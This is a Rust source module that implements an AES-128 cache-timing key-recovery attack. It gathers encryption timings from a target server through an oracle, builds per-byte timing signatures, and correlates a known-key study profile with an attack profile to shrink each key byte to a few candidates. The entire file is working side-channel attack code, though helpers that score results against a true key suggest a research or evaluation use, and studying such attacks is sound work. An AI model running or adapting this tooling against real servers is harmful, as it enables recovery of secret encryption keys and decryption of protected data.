//! Profile-correlation key-space reduction.
//!
//! Timings are bucketed by (byte position, plaintext byte value). Each
//! bucket's deviation from its position's mean forms a signature. A study
//! signature taken under a known key is correlated with the attack signature
//! under every XOR shift; the shifts that score near the maximum become that
//! position's candidate key bytes.

use std::io::{Read, Write};

use num_bigint::BigUint;
use rand::{RngCore, SeedableRng};
use rand_chacha::ChaCha8Rng;
use thiserror::Error;

use crate::aes::{Block, Key128};

pub const POSITIONS: usize = 16;
pub const VALUES: usize = 256;
const CELLS: usize = POSITIONS * VALUES;

#[inline]
fn cell(position: usize, value: usize) -> usize {
    position * VALUES + value
}

#[derive(Debug, Error)]
pub enum OracleError {
    #[error("timed out waiting for the server")]
    Timeout,
    #[error("i/o error: {0}")]
    Io(String),
    #[error("protocol error: {0}")]
    Protocol(String),
}

/// Anything that reports how long the target took to encrypt a plaintext.
pub trait TimingOracle {
    fn time(&mut self, pt: &Block) -> Result<u64, OracleError>;
}

impl<F: FnMut(&Block) -> u64> TimingOracle for F {
    fn time(&mut self, pt: &Block) -> Result<u64, OracleError> {
        Ok(self(pt))
    }
}

#[derive(Debug, Error)]
pub enum ProfileError {
    #[error("csv: {0}")]
    Csv(#[from] csv::Error),
    #[error("malformed profile: {0}")]
    Malformed(String),
}

/// Per-(position, value) timing accumulators.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TimingProfile {
    count: Vec<u64>,
    sum: Vec<u128>,
    sum_sq: Vec<u128>,
    total: u64,
}

impl Default for TimingProfile {
    fn default() -> Self {
        Self::new()
    }
}

impl TimingProfile {
    pub fn new() -> Self {
        Self {
            count: vec![0; CELLS],
            sum: vec![0; CELLS],
            sum_sq: vec![0; CELLS],
            total: 0,
        }
    }

    /// Adds one sample to bucket (j, pt[j]) for every position j.
    pub fn add(&mut self, pt: &Block, cycles: u64) {
        let c = cycles as u128;
        for (j, &v) in pt.0.iter().enumerate() {
            let k = cell(j, v as usize);
            self.count[k] += 1;
            self.sum[k] += c;
            self.sum_sq[k] += c * c;
        }
        self.total += 1;
    }

    pub fn merge(&mut self, other: &TimingProfile) {
        for k in 0..CELLS {
            self.count[k] += other.count[k];
            self.sum[k] += other.sum[k];
            self.sum_sq[k] += other.sum_sq[k];
        }
        self.total += other.total;
    }

    pub fn merged(mut self, other: &TimingProfile) -> Self {
        self.merge(other);
        self
    }

    pub fn total(&self) -> u64 {
        self.total
    }

    pub fn count(&self, position: usize, value: u8) -> u64 {
        self.count[cell(position, value as usize)]
    }

    pub fn sum(&self, position: usize, value: u8) -> u128 {
        self.sum[cell(position, value as usize)]
    }

    pub fn sum_sq(&self, position: usize, value: u8) -> u128 {
        self.sum_sq[cell(position, value as usize)]
    }

    /// Mean cycles over all samples.
    pub fn mean_cycles(&self) -> f64 {
        if self.total == 0 {
            return 0.0;
        }
        // Every sample lands once in position 0.
        let s: u128 = self.sum[..VALUES].iter().sum();
        s as f64 / self.total as f64
    }

    /// Checks the accumulator invariants.
    pub fn validate(&self) -> Result<(), ProfileError> {
        for j in 0..POSITIONS {
            let n: u64 = self.count[j * VALUES..(j + 1) * VALUES].iter().sum();
            if n != self.total {
                return Err(ProfileError::Malformed(format!(
                    "position {j} counts sum to {n}, expected {}",
                    self.total
                )));
            }
        }
        for k in 0..CELLS {
            let n = self.count[k] as u128;
            // mean^2 <= mean of squares  <=>  sum^2 <= n * sum_sq
            let lhs = self.sum[k].checked_mul(self.sum[k]);
            let rhs = n.checked_mul(self.sum_sq[k]);
            let consistent = match (lhs, rhs) {
                (Some(l), Some(r)) => l <= r,
                _ => {
                    let (s, q) = (self.sum[k] as f64, self.sum_sq[k] as f64);
                    s * s <= n as f64 * q * (1.0 + 1e-12)
                }
            };
            if !consistent || (n == 0 && (self.sum[k] != 0 || self.sum_sq[k] != 0)) {
                return Err(ProfileError::Malformed(format!(
                    "bucket ({}, {}) sums inconsistent",
                    k / VALUES,
                    k % VALUES
                )));
            }
        }
        Ok(())
    }

    pub const CSV_HEADER: [&'static str; 5] =
        ["position", "value", "count", "sum_cycles", "sumsq_cycles"];

    pub fn write_csv<W: Write>(&self, w: W) -> Result<(), ProfileError> {
        let mut out = csv::Writer::from_writer(w);
        out.write_record(Self::CSV_HEADER)?;
        for j in 0..POSITIONS {
            for v in 0..VALUES {
                let k = cell(j, v);
                out.write_record([
                    j.to_string(),
                    v.to_string(),
                    self.count[k].to_string(),
                    self.sum[k].to_string(),
                    self.sum_sq[k].to_string(),
                ])?;
            }
        }
        out.flush().map_err(csv::Error::from)?;
        Ok(())
    }

    pub fn read_csv<R: Read>(r: R) -> Result<Self, ProfileError> {
        let mut input = csv::Reader::from_reader(r);
        let header = input.headers()?.clone();
        if header.iter().ne(Self::CSV_HEADER) {
            return Err(ProfileError::Malformed(format!("unexpected header {header:?}")));
        }
        let mut p = TimingProfile::new();
        let mut seen = vec![false; CELLS];
        for rec in input.records() {
            let rec = rec?;
            let field = |i: usize| -> Result<&str, ProfileError> {
                rec.get(i)
                    .ok_or_else(|| ProfileError::Malformed(format!("short row {rec:?}")))
            };
            let parse_err = |e: std::num::ParseIntError| ProfileError::Malformed(e.to_string());
            let j: usize = field(0)?.parse().map_err(parse_err)?;
            let v: usize = field(1)?.parse().map_err(parse_err)?;
            if j >= POSITIONS || v >= VALUES {
                return Err(ProfileError::Malformed(format!("bucket ({j}, {v}) out of range")));
            }
            let k = cell(j, v);
            if std::mem::replace(&mut seen[k], true) {
                return Err(ProfileError::Malformed(format!("duplicate bucket ({j}, {v})")));
            }
            p.count[k] = field(2)?.parse().map_err(parse_err)?;
            p.sum[k] = field(3)?.parse().map_err(parse_err)?;
            p.sum_sq[k] = field(4)?.parse().map_err(parse_err)?;
        }
        if seen.iter().any(|s| !s) {
            return Err(ProfileError::Malformed(format!(
                "expected {CELLS} rows, got {}",
                seen.iter().filter(|s| **s).count()
            )));
        }
        p.total = p.count[..VALUES].iter().sum();
        p.validate()?;
        Ok(p)
    }
}

#[derive(Clone, Copy, Debug)]
pub struct CollectOptions {
    pub samples: u64,
    pub seed: u64,
    /// Largest tolerated ratio of failed queries to requested samples.
    pub max_failure_rate: f64,
}

impl CollectOptions {
    pub fn new(samples: u64, seed: u64) -> Self {
        Self {
            samples,
            seed,
            max_failure_rate: 0.05,
        }
    }
}

#[derive(Debug, Error)]
pub enum CollectError {
    #[error("n_samples must be at least 1")]
    NoSamples,
    #[error("{failures} oracle failures after {collected} samples (last: {last})")]
    TooManyFailures {
        failures: u64,
        collected: u64,
        last: OracleError,
        partial: Box<TimingProfile>,
    },
}

/// Seeded uniform plaintext source.
#[derive(Clone, Debug)]
pub struct PlaintextGenerator {
    rng: ChaCha8Rng,
}

impl PlaintextGenerator {
    pub fn new(seed: u64) -> Self {
        Self {
            rng: ChaCha8Rng::seed_from_u64(seed),
        }
    }

    pub fn next_block(&mut self) -> Block {
        let mut b = [0u8; 16];
        self.rng.fill_bytes(&mut b);
        Block(b)
    }
}

/// Queries `oracle` with seeded random plaintexts until `samples` timings
/// have been recorded. A failed query is retried with a fresh plaintext.
pub fn collect_profile<O: TimingOracle + ?Sized>(
    oracle: &mut O,
    opts: &CollectOptions,
) -> Result<TimingProfile, CollectError> {
    collect_profile_with(oracle, opts, |_, _| {})
}

/// Like [`collect_profile`], also handing every sample to `observe`.
pub fn collect_profile_with<O: TimingOracle + ?Sized>(
    oracle: &mut O,
    opts: &CollectOptions,
    mut observe: impl FnMut(&Block, u64),
) -> Result<TimingProfile, CollectError> {
    if opts.samples == 0 {
        return Err(CollectError::NoSamples);
    }
    let mut gen = PlaintextGenerator::new(opts.seed);
    let mut profile = TimingProfile::new();
    let mut failures = 0u64;
    let budget = (opts.max_failure_rate * opts.samples as f64).floor() as u64;
    while profile.total() < opts.samples {
        let pt = gen.next_block();
        match oracle.time(&pt) {
            Ok(cycles) => {
                profile.add(&pt, cycles);
                observe(&pt, cycles);
            }
            Err(e) => {
                failures += 1;
                if failures > budget {
                    return Err(CollectError::TooManyFailures {
                        failures,
                        collected: profile.total(),
                        last: e,
                        partial: Box::new(profile),
                    });
                }
            }
        }
    }
    Ok(profile)
}

/// Bucket deviations from the per-position mean.
#[derive(Clone, Debug, PartialEq)]
pub struct SignatureMatrix {
    pub s: Vec<[f64; VALUES]>,
    /// Buckets that had no samples (their deviation is 0).
    pub empty: Vec<[bool; VALUES]>,
    /// Per-position standard deviation of individual timings.
    pub noise: [f64; POSITIONS],
}

impl SignatureMatrix {
    pub fn empty_buckets(&self) -> usize {
        self.empty.iter().flatten().filter(|e| **e).count()
    }
}

pub fn signature(profile: &TimingProfile) -> SignatureMatrix {
    let mut s = vec![[0.0; VALUES]; POSITIONS];
    let mut empty = vec![[false; VALUES]; POSITIONS];
    let mut noise = [0.0; POSITIONS];
    let n_total = profile.total as f64;
    for j in 0..POSITIONS {
        if profile.total == 0 {
            empty[j] = [true; VALUES];
            continue;
        }
        let row = j * VALUES..(j + 1) * VALUES;
        let sum: u128 = profile.sum[row.clone()].iter().sum();
        let sum_sq: u128 = profile.sum_sq[row].iter().sum();
        let mean = sum as f64 / n_total;
        noise[j] = (sum_sq as f64 / n_total - mean * mean).max(0.0).sqrt();
        for v in 0..VALUES {
            let k = cell(j, v);
            if profile.count[k] == 0 {
                empty[j][v] = true;
            } else {
                s[j][v] = profile.sum[k] as f64 / profile.count[k] as f64 - mean;
            }
        }
    }
    SignatureMatrix { s, empty, noise }
}

/// Correlation scores `c[j][g]` for every position and key-byte guess.
pub type Correlation = Vec<[f64; VALUES]>;

/// `c[j][g] = Σ_v attack[j][v] · study[j][v ^ g ^ study_key[j]]`.
pub fn correlate(study: &SignatureMatrix, study_key: &Key128, attack: &SignatureMatrix) -> Correlation {
    (0..POSITIONS)
        .map(|j| {
            let a = &attack.s[j];
            let st = &study.s[j];
            let k = study_key.0[j] as usize;
            std::array::from_fn(|g| {
                let shift = g ^ k;
                a.iter()
                    .enumerate()
                    .map(|(v, &x)| x * st[v ^ shift])
                    .sum()
            })
        })
        .collect()
}

/// Retained key-byte values per position, best score first.
#[derive(Clone, Debug, PartialEq)]
pub struct CandidateSets {
    sets: Vec<Vec<(u8, f64)>>,
}

#[derive(Debug, Error)]
pub enum CandidateError {
    #[error("expected {POSITIONS} positions, got {0}")]
    Positions(usize),
    #[error("position {0} has no candidates")]
    Empty(usize),
    #[error("position {position} lists value {value} twice")]
    Duplicate { position: usize, value: u8 },
    #[error("csv: {0}")]
    Csv(#[from] csv::Error),
    #[error("malformed candidate file: {0}")]
    Malformed(String),
}

fn sort_scored(set: &mut [(u8, f64)]) {
    set.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
}

impl CandidateSets {
    pub fn new(mut sets: Vec<Vec<(u8, f64)>>) -> Result<Self, CandidateError> {
        if sets.len() != POSITIONS {
            return Err(CandidateError::Positions(sets.len()));
        }
        for (j, set) in sets.iter_mut().enumerate() {
            if set.is_empty() {
                return Err(CandidateError::Empty(j));
            }
            let mut seen = [false; VALUES];
            for &(v, _) in set.iter() {
                if std::mem::replace(&mut seen[v as usize], true) {
                    return Err(CandidateError::Duplicate { position: j, value: v });
                }
            }
            sort_scored(set);
        }
        Ok(Self { sets })
    }

    /// Unscored candidates; the listed order is kept.
    pub fn from_values(values: Vec<Vec<u8>>) -> Result<Self, CandidateError> {
        let sets = values
            .into_iter()
            .map(|vs| {
                let n = vs.len() as f64;
                vs.into_iter()
                    .enumerate()
                    .map(|(i, v)| (v, n - i as f64))
                    .collect()
            })
            .collect();
        Self::new(sets)
    }

    pub fn full() -> Self {
        Self::from_values(vec![(0..=255).collect(); POSITIONS]).unwrap()
    }

    pub fn singleton(key: &Key128) -> Self {
        Self::from_values(key.0.iter().map(|&b| vec![b]).collect()).unwrap()
    }

    pub fn position(&self, j: usize) -> &[(u8, f64)] {
        &self.sets[j]
    }

    pub fn values(&self, j: usize) -> impl Iterator<Item = u8> + '_ {
        self.sets[j].iter().map(|(v, _)| *v)
    }

    pub fn contains(&self, j: usize, value: u8) -> bool {
        self.sets[j].iter().any(|(v, _)| *v == value)
    }

    pub fn sizes(&self) -> [usize; POSITIONS] {
        std::array::from_fn(|j| self.sets[j].len())
    }

    pub fn keyspace_size(&self) -> BigUint {
        keyspace_size(self)
    }

    pub fn keyspace_log2(&self) -> f64 {
        self.sets.iter().map(|s| (s.len() as f64).log2()).sum()
    }

    pub fn write_csv<W: Write>(&self, w: W) -> Result<(), CandidateError> {
        let mut out = csv::Writer::from_writer(w);
        out.write_record(["position", "value", "score"])?;
        for (j, set) in self.sets.iter().enumerate() {
            for (v, score) in set {
                out.write_record([j.to_string(), v.to_string(), score.to_string()])?;
            }
        }
        out.flush().map_err(csv::Error::from)?;
        Ok(())
    }

    pub fn read_csv<R: Read>(r: R) -> Result<Self, CandidateError> {
        let mut input = csv::Reader::from_reader(r);
        let header = input.headers()?.clone();
        if header.iter().ne(["position", "value", "score"]) {
            return Err(CandidateError::Malformed(format!("unexpected header {header:?}")));
        }
        let mut sets = vec![Vec::new(); POSITIONS];
        for rec in input.records() {
            let rec = rec?;
            let bad = || CandidateError::Malformed(format!("bad row {rec:?}"));
            let j: usize = rec.get(0).and_then(|s| s.parse().ok()).ok_or_else(bad)?;
            let v: u8 = rec.get(1).and_then(|s| s.parse().ok()).ok_or_else(bad)?;
            let score: f64 = rec.get(2).and_then(|s| s.parse().ok()).ok_or_else(bad)?;
            sets.get_mut(j).ok_or_else(bad)?.push((v, score));
        }
        Self::new(sets)
    }
}

/// Keeps, per position, every guess scoring within `retention` standard
/// deviations of the best. Ties at the threshold are kept.
pub fn candidate_sets(c: &Correlation, retention: f64) -> CandidateSets {
    assert!(retention >= 0.0, "retention must be non-negative");
    let sets = c
        .iter()
        .map(|row| {
            let max = row.iter().copied().fold(f64::NEG_INFINITY, f64::max);
            let mean = row.iter().sum::<f64>() / VALUES as f64;
            let sigma = (row.iter().map(|x| (x - mean) * (x - mean)).sum::<f64>() / VALUES as f64).sqrt();
            let threshold = max - retention * sigma;
            row.iter()
                .enumerate()
                .filter(|(_, &x)| x >= threshold)
                .map(|(g, &x)| (g as u8, x))
                .collect()
        })
        .collect();
    CandidateSets::new(sets).expect("the maximum always survives")
}

/// Positions whose true key byte was not retained.
pub fn missing_bytes(cands: &CandidateSets, true_key: &Key128) -> usize {
    (0..POSITIONS)
        .filter(|&j| !cands.contains(j, true_key.0[j]))
        .count()
}

pub fn keyspace_size(cands: &CandidateSets) -> BigUint {
    cands
        .sets
        .iter()
        .fold(BigUint::from(1u32), |acc, s| acc * BigUint::from(s.len()))
}
